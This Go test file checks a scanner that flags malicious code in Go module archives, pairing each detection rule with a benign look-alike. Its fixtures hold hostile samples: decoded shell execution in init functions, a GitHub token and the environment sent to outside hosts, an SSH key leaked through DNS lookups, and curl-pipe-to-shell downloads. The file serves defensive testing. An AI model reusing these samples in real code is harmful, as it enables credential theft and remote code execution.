package content

import (
	"bytes"
	"context"
	"errors"
	"go/build"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chaingate/chaingate/internal/contentdata"
)

// goModZip builds a module zip (example.com/m@v1.0.0/…) of files.
func goModZip(t testing.TB, files map[string]string) []byte {
	t.Helper()
	m := map[string][]byte{"example.com/m@v1.0.0/go.mod": []byte("module example.com/m\n\ngo 1.22\n")}
	for n, s := range files {
		m["example.com/m@v1.0.0/"+n] = []byte(s)
	}
	b, err := contentdata.Zip(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func scanGo(t testing.TB, files map[string]string) *Report {
	t.Helper()
	rep, err := ScanPackageArchive(context.Background(), "m-v1.0.0.zip", bytes.NewReader(goModZip(t, files)))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Ecosystem != "Go" || rep.Format != "go-module-zip" || rep.Name != "example.com/m" || rep.Version != "v1.0.0" {
		t.Fatalf("report %s %s %s %s", rep.Ecosystem, rep.Format, rep.Name, rep.Version)
	}
	return rep
}

func contentRulesOf(rep *Report) []string {
	var out []string
	for _, f := range rep.Findings {
		out = append(out, f.Rule)
	}
	return out
}

func contentFindingOf(rep *Report, rule string) *Finding {
	for i := range rep.Findings {
		if rep.Findings[i].Rule == rule {
			return &rep.Findings[i]
		}
	}
	return nil
}

// One case per rule the Go front end raises, each with a look-alike
// that must not raise it.
func TestContentGoRules(t *testing.T) {
	tests := []struct {
		name, src string
		rule      string // "" for look-alikes
		notRule   string // a rule the case must not raise
		flow      []string
	}{
		{name: "init exec of base64 through an import alias", rule: "exec-decoded", flow: []string{"decoded by encoding/base64.StdEncoding.DecodeString", "os/exec.Command"},
			src: `package m
import (
	b64 "encoding/base64"
	run "os/exec"
)
const p1, p2 = "ZWNobyBoaQ", "=="
func init() {
	c, _ := b64.StdEncoding.DecodeString(p1 + p2)
	run.Command("/bin/sh", "-c", string(c)).Run()
}`},
		{name: "hex-decoded command via a helper the init calls", rule: "exec-decoded",
			src: `package m
import ("encoding/hex"; "os/exec")
func decode(s string) string { b, _ := hex.DecodeString(s); return string(b) }
func init() { exec.Command("sh", "-c", decode("6563686f206869")).Start() }`},
		{name: "the same exec in an exported function is not init code", notRule: "exec-decoded",
			src: `package m
import ("encoding/base64"; "os/exec")
func Run() { c, _ := base64.StdEncoding.DecodeString("ZWNobyBoaQ=="); exec.Command("sh", "-c", string(c)).Run() }`},
		{name: "env to HTTP in a package variable initialiser", rule: "env-exfiltration", flow: []string{"the environment variable GITHUB_TOKEN", "net/http.Post"},
			src: `package m
import ("net/http"; "os"; "strings")
var _ = func() error {
	_, err := http.Post("https://collect.top/t", "text/plain", strings.NewReader(os.Getenv("GITHUB_TOKEN")))
	return err
}()`},
		{name: "env read for configuration only", notRule: "env-exfiltration",
			src: `package m
import "os"
var level = os.Getenv("LOG_LEVEL")
func init() { if level == "" { level = "info" } }`},
		{name: "whole environment over a TCP connection", rule: "env-exfiltration",
			src: `package m
import ("fmt"; "net"; "os")
func init() {
	c, err := net.Dial("tcp", "203.0.113.7:4444")
	if err != nil { return }
	fmt.Fprintf(c, "%v", os.Environ())
}`},
		{name: "ssh key by Sprintf path to DNS", rule: "dns-exfiltration",
			src: `package m
import ("fmt"; "net"; "os")
func init() {
	home, _ := os.UserHomeDir()
	k, _ := os.ReadFile(fmt.Sprintf("%s/.ssh/id_rsa", home))
	net.LookupHost(fmt.Sprintf("%x.k.oast.fun", k[:16]))
}`},
		{name: "strings.Join of constants builds a download-and-run", rule: "shell-download-exec",
			src: `package m
import ("os/exec"; "strings")
const host = "http://198.51.100.9/x"
func init() { exec.Command("bash", "-c", strings.Join([]string{"curl", "-s", host, "|", "bash"}, " ")).Run() }`},
		{name: "download written then run", rule: "write-then-exec",
			src: `package m
import ("io"; "net/http"; "os"; "os/exec")
func init() {
	r, _ := http.Get("http://198.51.100.9/a")
	b, _ := io.ReadAll(r.Body)
	os.WriteFile("/tmp/a", b, 0o755)
	exec.Command("/tmp/a").Run()
}`},
		{name: "go:generate that pipes a download to sh", rule: "shell-download-exec",
			src: "package m\n\n//go:generate sh -c \"curl -s http://198.51.100.9/g | sh\"\n"},
		{name: "go:generate stringer", notRule: "shell-download-exec",
			src: "package m\n\n//go:generate stringer -type=Kind\ntype Kind int\n"},
		{name: "cgo flag that loads a compiler plugin", rule: "install-script",
			src: "package m\n\n/*\n#cgo CFLAGS: -fplugin=./evil.so\n*/\nimport \"C\"\n"},
		{name: "cgo linking a library", notRule: "install-script",
			src: "package m\n\n// #cgo LDFLAGS: -lz\n// #include <zlib.h>\nimport \"C\"\n"},
		{name: "invisible identifier", rule: "invisible-characters",
			src: "package m\n\nvar \u3164 = \"x\"\n"},
		{name: "invisible character in a lexer's Unicode table", notRule: "invisible-characters",
			src: "package m\n\nconst letters = \"\u3131-\u3164\"\n"},
		{name: "syscall.Exec of a decoded path", rule: "exec-decoded",
			src: `package m
import ("encoding/base64"; "syscall")
func init() { p, _ := base64.StdEncoding.DecodeString("L2Jpbi9zaA=="); syscall.Exec(string(p), nil, nil) }`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rep := scanGo(t, map[string]string{"m.go": tc.src})
			rules := contentRulesOf(rep)
			if tc.rule != "" {
				f := contentFindingOf(rep, tc.rule)
				if f == nil {
					t.Fatalf("rule %s not raised; findings %v, skipped %v", tc.rule, rules, rep.Skipped)
				}
				if f.File != "m.go" || f.Line == 0 || f.Span == "" || f.Category != Category(tc.rule) {
					t.Errorf("finding without file, line, span or category: %+v", f)
				}
				flow := strings.Join(f.Flow, " → ")
				for _, want := range tc.flow {
					if !strings.Contains(flow, want) {
						t.Errorf("flow %q lacks %q", flow, want)
					}
				}
			}
			if tc.notRule != "" && slices.Contains(rules, tc.notRule) {
				t.Errorf("look-alike raised %s: %+v", tc.notRule, rep.Findings)
			}
			if len(rep.Skipped) > 0 {
				t.Errorf("skipped: %v", rep.Skipped)
			}
		})
	}
}

// Hooks list init functions and go:generate lines; tests and testdata
// are not Go code a program imports.
func TestContentGoHooksAndScope(t *testing.T) {
	rep := scanGo(t, map[string]string{
		"a.go":             "package m\n\n//go:generate stringer -type=K\nfunc init() {}\n",
		"a_test.go":        "package m\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://198.51.100.9 | sh\").Run() }\n",
		"testdata/x/x.go":  "package x\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://198.51.100.9 | sh\").Run() }\n",
		"internal/b/b.go":  "package b\n",
		"broken/broken.go": "package broken\nfunc init() {\n",
		"gen/tmpl.go":      "//go:build ignore\n\npackage {{.Name}}\n",
	})
	want := []string{"go:generate (a.go:3): stringer -type=K", "init(): a.go", "init(): broken/broken.go"}
	if !slices.Equal(rep.InstallHooks, want) {
		t.Errorf("hooks %q, want %q", rep.InstallHooks, want)
	}
	if f := contentFindingOf(rep, "shell-download-exec"); f != nil {
		t.Errorf("test or testdata code analysed: %+v", f)
	}
	if f := contentFindingOf(rep, "unparsed-install-code"); f == nil || f.File != "broken/broken.go" {
		t.Errorf("unparseable init-time file not reported: %+v", rep.Findings)
	}
	if len(rep.Skipped) != 1 || !strings.Contains(rep.Skipped[0], "broken/broken.go (go syntax:") {
		t.Errorf("skipped %q", rep.Skipped)
	}
}

// A zip whose entries do not share a module@version/ directory is not a
// module zip.
func TestContentGoModulePrefix(t *testing.T) {
	for _, tc := range []struct {
		names []string
		want  string
	}{
		{[]string{"golang.org/x/sys@v0.1.0/go.mod", "golang.org/x/sys@v0.1.0/unix/a.go"}, "golang.org/x/sys@v0.1.0/"},
		{[]string{"m@v1/a.go", "other@v1/b.go"}, ""},
		{[]string{"pkg-1.0/setup.py"}, ""},
		{[]string{"m@v1/README"}, ""},
		{nil, ""},
	} {
		var files []file
		for _, n := range tc.names {
			files = append(files, file{name: n})
		}
		if got := goModulePrefix(files); got != tc.want {
			t.Errorf("%v: %q, want %q", tc.names, got, tc.want)
		}
	}
}

// contentModCacheZip returns a module zip from the local module cache,
// or skips the test.
func contentModCacheZip(t testing.TB, mod, ver string) (string, []byte) {
	t.Helper()
	cache := os.Getenv("GOMODCACHE")
	if cache == "" {
		cache = filepath.Join(build.Default.GOPATH, "pkg", "mod")
	}
	p := filepath.Join(cache, "cache", "download", filepath.FromSlash(mod), "@v", ver+".zip")
	b, err := os.ReadFile(p)
	if errors.Is(err, os.ErrNotExist) {
		t.Skipf("%s@%s not in the module cache (%s); run go mod download %s@%s", mod, ver, p, mod, ver)
	}
	if err != nil {
		t.Fatal(err)
	}
	return p, b
}

// Real, popular modules from the module cache are not flagged, and
// their code parses.
func TestContentGoRealModules(t *testing.T) {
	for _, m := range []struct{ mod, ver string }{
		{"golang.org/x/sys", "v0.49.0"},
		{"github.com/spf13/cobra", "v1.10.2"},
		{"github.com/sirupsen/logrus", "v1.10.2"},
		{"gopkg.in/yaml.v3", "v3.0.1"},
	} {
		t.Run(m.mod, func(t *testing.T) {
			p, b := contentModCacheZip(t, m.mod, m.ver)
			rep, err := ScanPackageArchive(context.Background(), filepath.Base(p), bytes.NewReader(b))
			if err != nil {
				t.Fatal(err)
			}
			if rep.Ecosystem != "Go" || rep.Name != m.mod || rep.Version != m.ver {
				t.Fatalf("read as %s %s@%s", rep.Ecosystem, rep.Name, rep.Version)
			}
			if rep.Malicious {
				t.Errorf("flagged (score %.3f): %+v", rep.Score, rep.Findings)
			}
			for _, s := range rep.Skipped {
				if strings.Contains(s, "syntax") || strings.Contains(s, "failed") {
					t.Errorf("skipped: %s", s)
				}
			}
			t.Logf("%d files, %d hooks, %d findings, score %.3f", rep.Files, len(rep.InstallHooks), len(rep.Findings), rep.Score)
		})
	}
}

// The Go front end never panics and always ends, whatever it is given.
func FuzzContentGo(f *testing.F) {
	for _, s := range contentSamples(f) {
		if s.Ecosystem != "Go" {
			continue
		}
		matches, _ := filepath.Glob(filepath.Join("..", "testdata", "content", "samples", s.Name, "*.go"))
		for _, m := range matches {
			b, err := os.ReadFile(m)
			if err != nil {
				f.Fatal(err)
			}
			f.Add(b)
		}
	}
	f.Add([]byte("package m\nfunc init() { init() }\nvar a = b\nvar b = a\n"))
	f.Fuzz(func(t *testing.T, src []byte) {
		fa := newContentFileAnalysis("f.go", "go", src, true)
		_ = analyseGo(fa)
		if fa.budget < -1000 && !fa.exhausted {
			t.Fatal("budget overspent without being marked exhausted")
		}
		for _, x := range fa.sorted() {
			if x.Category == "" || x.Message == "" {
				t.Fatalf("finding without category or message: %+v", x)
			}
		}
	})
}
